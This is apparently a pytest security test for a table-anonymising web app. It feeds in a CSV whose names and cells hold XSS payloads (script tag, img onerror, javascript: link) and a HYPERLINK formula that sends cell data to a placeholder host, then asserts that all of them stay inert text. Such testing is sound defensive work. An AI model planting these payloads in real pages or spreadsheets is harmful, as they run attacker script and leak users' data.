"""A table that attacks: scripts and formulas in names and cells stay text on every screen and in what is downloaded."""

from __future__ import annotations

import polars as pl
import pytest

from tests.app.made import VIEWS, made
from tests.app.screens import SCREENS
from tests.app.steps import download

SCRIPT = "<script>window.hit = 1</script>"
IMAGE = "<img src=x onerror='window.hit = 2'>"
LINK = "javascript:window.hit=3"
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1)'


@pytest.fixture(scope="module")
def hostile(app, tmp_path_factory):
    """Return a session with a release of a table whose names and cells are scripts and formulas."""
    path = tmp_path_factory.mktemp("hostile") / f"{IMAGE.replace('/', '')}.csv"
    n = 40
    frame = pl.DataFrame(
        {
            IMAGE: [SCRIPT if row % 2 else IMAGE for row in range(n)],
            SCRIPT: [row % 7 for row in range(n)],
            "__proto__": [FORMULA if row % 2 else LINK for row in range(n)],
            "sick": [FORMULA if row % 3 else SCRIPT for row in range(n)],
        }
    )
    text = frame.write_csv(quote_style="always")
    roles = {IMAGE: "quasi", SCRIPT: "quasi", "__proto__": "quasi", "sick": "sensitive"}
    return made(app, {"files": {"file": (path.name, text.encode())}}, roles=roles, k=3)


def test_scripts_in_names_and_cells_stay_text_on_every_screen(visit, app, hostile):
    seen = visit(hostile.url, viewport={"width": 1400, "height": 900})
    page = seen.page
    asked = []
    page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss()))
    for name in ("load", "describe", "protect", "run", *(f"judge-{view}" for view in VIEWS)):
        SCREENS[name](page, hostile)
        assert page.evaluate("window.hit") is None, name
        assert page.locator("main script, main img[src='x']").count() == 0, name
        assert seen.violations() == [], name
    page.goto(hostile.at("load"))
    page.get_by_role("cell").get_by_text(SCRIPT).first.wait_for()
    assert asked == []
    assert seen.complaints == []
    assert seen.elsewhere(app.address) == []


def test_the_drawer_and_the_panel_show_hostile_names_as_text(visit, hostile):
    seen = visit(hostile.url, viewport={"width": 1400, "height": 900})
    page = seen.page
    page.goto(hostile.at("describe"))
    page.get_by_role("button", name=f"Hierarchy of {IMAGE}").click()
    page.get_by_role("dialog").get_by_role("heading", name=IMAGE).wait_for()
    page.get_by_role("dialog").get_by_text(SCRIPT).first.wait_for()
    page.keyboard.press("Escape")
    page.get_by_role("complementary", name="Nothing hidden").get_by_text(SCRIPT).first.wait_for()
    assert page.evaluate("window.hit") is None
    assert seen.violations() == []


def test_the_downloaded_report_runs_nothing_and_the_csv_has_no_formula(visit, hostile, tmp_path):
    page = visit(hostile.url).page
    page.goto(hostile.at("judge"))
    release = pl.read_csv(download(page, "Download release", tmp_path), infer_schema=False)
    cells = [cell for column in release.iter_columns() for cell in column.drop_nulls()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    report = download(page, "Download report", tmp_path)
    page.goto(report.as_uri())
    assert page.evaluate("window.hit") is None
    assert page.locator("script:not([type='application/json']), img[src='x']").count() == 0  # the certificate is data
